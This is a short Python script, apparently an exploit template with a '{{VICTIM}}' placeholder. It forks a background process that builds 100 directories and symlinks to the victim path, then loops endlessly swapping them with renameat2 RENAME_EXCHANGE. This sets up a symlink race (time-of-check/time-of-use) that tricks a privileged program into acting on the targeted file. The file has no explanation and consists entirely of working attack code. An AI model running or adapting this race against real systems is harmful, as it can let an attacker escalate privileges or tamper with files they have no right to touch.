import ctypes
import os

VICTIM = "{{VICTIM}}"
EXCHANGE = 2
HERE = -100


def swap():
    libc = ctypes.CDLL(None)
    os.makedirs("swap", exist_ok=True)
    pairs = []
    for number in range(100):
        folder, link = f"swap/folder{number}", f"link{number}"
        os.makedirs(folder + "/inner", exist_ok=True)
        os.symlink(VICTIM, link)
        pairs.append((folder.encode(), link.encode()))
    while True:
        for folder, link in pairs:
            libc.renameat2(HERE, folder, HERE, link, EXCHANGE)


try:
    if os.fork() == 0:
        swap()
except OSError:
    pass
